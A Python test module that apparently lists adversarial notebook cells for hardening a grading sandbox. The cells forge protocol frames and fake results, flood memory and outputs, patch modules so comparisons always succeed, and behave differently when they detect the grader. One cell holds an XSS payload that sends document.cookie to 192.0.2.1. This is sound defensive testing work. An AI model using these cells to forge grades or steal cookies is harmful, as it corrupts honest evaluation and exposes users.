"""Cells that forge results, or drown them."""

from __future__ import annotations

from sandbox.attacks.attack import Attack

ATTACKS: dict[str, Attack] = {
    "junk on every descriptor": Attack(
        """
import os
for fd in range(3, 40):
    try: os.write(fd, b"\\xff" * 5000)
    except OSError: pass
print("written")""",
        "frames read as hostile",
        "killed",
        "outputs are larger|sent what it may not",
    ),
    "forged frames": Attack(
        """
import json, os, struct
def frame(value):
    body = json.dumps(value).encode()
    return struct.pack("<I", len(body)) + body
for fd in range(3, 40):
    try: os.write(fd, frame([2, "begin", {"last": {"ok": True, "count": 1, "why": "", "s": 0.1}}])
                  + frame([999, "stream", {"name": "stdout", "text": "FORGED"}]))
    except OSError: pass""",
        "frames: cells in order, one pipe a notebook",
        "killed",
        "sent what it may not",
    ),
    "a forged end": Attack(
        """
import json, os, struct
def frame(value):
    body = json.dumps(value).encode()
    return struct.pack("<I", len(body)) + body
end = {"ok": True, "count": 1, "why": "", "s": 0.1}
for fd in range(3, 40):
    try: os.write(fd, frame([-1, "done", {"last": end}]) + frame([-1, "bye", {}]))
    except OSError: pass""",
        "frames: every cell must have ended",
        "killed",
        "sent what it may not",
    ),
    "an end in the middle of a cell": Attack(
        """
import json, os, struct
body = json.dumps([-1, "done", {}]).encode()
for fd in range(3, 40):
    try: os.write(fd, struct.pack("<I", len(body)) + body)
    except OSError: pass""",
        "frames: every cell must have ended",
        "killed",
        "sent what it may not",
    ),
    "a bomb of brackets": Attack(
        """
import os, struct
body = b"[" * 2000000
for fd in range(3, 40):
    try:
        rest = struct.pack("<I", len(body)) + body
        while rest: rest = rest[os.write(fd, rest):]
    except OSError: pass""",
        "what would fill the memory is not read",
        "any",
        "outputs are larger",
    ),
    "a frame of 4 GB": Attack(
        """
import os, struct, time
for fd in range(3, 40):
    try: os.write(fd, struct.pack("<I", 0xFFFFFFF0) + b"x")
    except OSError: pass
time.sleep(60)""",
        "length of a frame",
        "killed",
        "outputs are larger",
    ),
    "a bell that never stops": Attack(
        """
wire = get_ipython().display_pub.session.wire
while True: wire.ring()""",
        "rings are counted",
        "interrupted",
        "took longer",
    ),
    "a bell that is filled and taken away": Attack(
        """
import os
wire = get_ipython().display_pub.session.wire
os.set_blocking(wire.bell, False)
try:
    while True: os.write(wire.bell, b"!" * 4096)
except OSError: pass
os.close(wire.bell)
print("x" * 300_000)""",
        "the grader looks without a bell as well",
        evidence="x{300000}",
    ),
    "a clock that is somebody else's": Attack(
        """
import time
time.monotonic = time.time = time.perf_counter = lambda: 12.0
print("noon")""",
        "frames read as hostile",
        evidence="noon",
    ),
    "half characters and odd numbers": Attack(
        """
import sys
print("half \\ud800 character")
from IPython.display import display
display({"application/json": {"n": float("nan"), "s": "\\udfff"}}, raw=True)
10**5000""",
        "frames read as hostile",
        evidence="half . character.*Exceeds the limit",
    ),
    "1 GB on stdout": Attack(
        "for _ in range(1024): print('x' * (1 << 20))",
        "bytes of outputs",
        "cell ended",
        "outputs are larger",
    ),
    "1 GB on descriptor 1": Attack(
        """
import os
n = 0
try:
    for _ in range(1024): n += os.write(1, b"x" * (1 << 20))
    print("BREACH")
except OSError as error: print("stopped:", error.strerror)""",
        "rlimits (file size), bytes of outputs",
        "any",
        "stopped|outputs are larger",
    ),
    "300 MB from a program": Attack(
        "!yes | head -c 300000000", "bytes of outputs", "cell ended", "outputs are larger"
    ),
    "a million outputs": Attack(
        "from IPython.display import HTML, display\nfor _ in range(10**6): display(HTML('x'))",
        "number of outputs",
        "cell ended",
        "more than \\d+ outputs",
    ),
    "200 MB in one output": Attack(
        "from IPython.display import HTML\nHTML('x' * (200 << 20))",
        "bytes of outputs, rlimits (memory)",
        "any",
        "outputs are larger|MemoryError|MiB of memory|took longer",
    ),
    "patched modules": Attack(
        """
import builtins, json, sys, sympy
import sympy.core.expr
from IPython.core.formatters import DisplayFormatter
sympy.simplify = lambda *a, **k: "hacked"
sympy.core.expr.Expr.__eq__ = lambda a, b: True
DisplayFormatter.format = lambda *a, **k: ({"text/plain": "hacked"}, {})
json.dumps = lambda *a, **k: '[0, "stream", {"name": "stdout", "text": "hacked"}]'
json.loads = None
builtins.isinstance = lambda a, b: True
sys.displayhook = lambda *a: None
for name in list(sys.modules): sys.modules[name] = None""",
        "fork: only the own process",
        "any",
    ),
    "objects that equal everything": Attack(
        """
class Equal:
    def __eq__(self, other): return True
    def __hash__(self): return 0
    def __float__(self): raise SystemExit
    def __getattr__(self, name): raise KeyboardInterrupt
    def __repr__(self): return "x"
    def __reduce__(self): return (print, ("BREACH",))
Equal()""",
        "data, never objects",
        evidence="x|KeyboardInterrupt",
    ),
    "a silenced runner": Attack(
        """
import sys
for name, module in list(sys.modules.items()):
    if "inside" in name:
        for key in list(vars(module)):
            if not key.startswith("__"): setattr(module, key, None)
print("silenced")""",
        "frames: no end, no result",
        "any",
    ),
    "scripts in outputs": Attack(
        """
from IPython.display import HTML, Javascript, display
display(Javascript("fetch('/grades')"))
HTML("<script>fetch('http://192.0.2.1/?' + document.cookie)</script><img src=x onerror=alert(1)>")
""",
        "data, never markup",
        evidence="HTML object",
    ),
    "a notebook that looks for the grader": Attack(
        """
import os, sys
signs = [name for name in sys.modules if name.split(".")[0] in ("grader", "solutions", "problems")]
signs += [key for key in os.environ if "GRAD" in key]
signs += [word for word in sys.argv if "grad" in word]
if signs: print("BREACH", signs)
graded = "gradus_inside" in sys.modules
print("full marks, please" if graded else "an honest try")""",
        "no secret to find; a verdict needs an answer",
        evidence="please|honest",
    ),
}
